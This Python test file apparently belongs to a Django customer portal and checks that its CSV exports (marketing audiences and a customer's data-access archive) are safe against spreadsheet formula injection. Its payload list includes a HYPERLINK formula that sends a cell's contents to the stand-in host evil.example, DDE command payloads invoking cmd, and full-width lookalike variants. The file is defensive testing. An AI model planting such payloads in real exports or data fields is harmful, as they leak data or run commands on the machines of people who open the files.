"""No export writes a cell that a spreadsheet would run as a formula (OWASP, CSV Injection).

The payloads are the probe's: a customer sets their names in the portal, consents to email,
and the marketing role's audiences and the customer's own access package carry them.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from privacy.csv_export import FORMULA_STARTS, safe_cell, writer
from rights.access import build_access_archive, build_access_json, exported_tables
from tests.factories import CustomerFactory
from tests.portal.conftest import log_in
from tests.security import figures

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klikkaa")'
CALC = "+1+cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    CALC,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]
HARMLESS = ["Aino", "Åke-Olof", "", "+358401234567", "-12.50", "12,50", "a=b", "x@example.fi"]


def _evaluated(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula (its first character)."""
    return (
        cell.startswith(FORMULA_STARTS)
        and not cell.lstrip("+-").replace(".", "").replace(",", "").isdigit()
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_starting_a_formula_is_written_as_text(payload):
    out = io.StringIO()
    writer(out).writerow(["1", payload])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["1", "'" + payload]
    assert not _evaluated(row[1])
    figures.count("spreadsheet payloads checked")


@pytest.mark.parametrize("value", [*HARMLESS, None, 7])
def test_ordinary_values_and_plain_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value


def _hostile_customer_through_the_portal(client) -> object:
    customer = CustomerFactory(phone="+358401234567")
    log_in(client, customer)
    data = {
        "first_name": HYPERLINK,
        "last_name": CALC,
        "street_address": "=1+1",
        "postal_code": customer.postal_code,
        "post_office": "@Helsinki",
        "phone": customer.phone,
        "email": customer.email,
        "preferred_language": customer.preferred_language,
        "company": customer.company,
        "business_id": customer.business_id,
        "reason": "",
    }
    assert client.post(reverse("portal:details"), data).status_code == 302
    response = client.post(
        reverse("portal:marketing"), {"marketing_email": "yes", "marketing_sms": "yes"}
    )
    assert response.status_code == 302
    customer.refresh_from_db()
    assert (customer.first_name, customer.last_name) == (HYPERLINK, CALC)
    return customer


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def test_no_audience_export_carries_a_formula(client, marketing, otp_login):
    customer = _hostile_customer_through_the_portal(client)
    staff = otp_login(client.__class__(), marketing)
    for channel in ("email", "sms"):
        response = staff.get(reverse("admin:audience_export", args=[channel]))
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.reader(io.StringIO(text)))
        mine = [row for row in rows if row[0] == str(customer.number)]
        assert mine, f"{channel}: the customer is not in the audience"
        assert not [cell for cell in _cells(rows) if _evaluated(cell)], channel
        assert "'" + HYPERLINK in mine[0]
        if channel == "email":
            assert "'" + CALC in mine[0]
        else:
            assert "+358401234567" in mine[0]  # a phone number stays dialable
        figures.count("exports checked for formulas")


def test_no_access_package_csv_carries_a_formula(client):
    customer = _hostile_customer_through_the_portal(client)
    tables = exported_tables(customer)
    archive = build_access_archive(
        json_bytes=build_access_json(customer=customer, tables=tables), tables=tables
    )
    with zipfile.ZipFile(io.BytesIO(archive)) as package:
        names = [n for n in package.namelist() if n.endswith(".csv")]
        assert "asiakastiedot.csv" in names
        for name in names:
            text = package.read(name).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text), delimiter=";"))
            assert not [cell for cell in _cells(rows) if _evaluated(cell)], name
            figures.count("exports checked for formulas")
        own = package.read("asiakastiedot.csv").decode("utf-8-sig")
    own_cells = _cells(list(csv.reader(io.StringIO(own), delimiter=";")))
    assert "'" + HYPERLINK in own_cells
    assert "'" + CALC in own_cells
